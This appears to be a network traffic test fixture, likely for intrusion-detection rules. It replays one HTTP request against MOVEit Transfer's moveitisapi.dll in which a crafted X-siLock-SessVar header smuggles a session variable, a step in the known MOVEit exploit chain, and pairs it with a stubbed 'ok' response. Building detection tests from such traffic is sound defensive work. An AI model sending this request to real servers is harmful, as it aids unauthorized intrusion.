# MOVEit Transfer, session variable from a header.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /moveitisapi/moveitisapi.dll?action=m2 HTTP/1.1\r\n
Host: shop.example\r\n
X-siLock-Transaction: folder_add_by_path\r\n
X-siLock-SessVar0: MyPkgSelfProvisionedRecips: x\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 1\r\n
\r\n
x

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
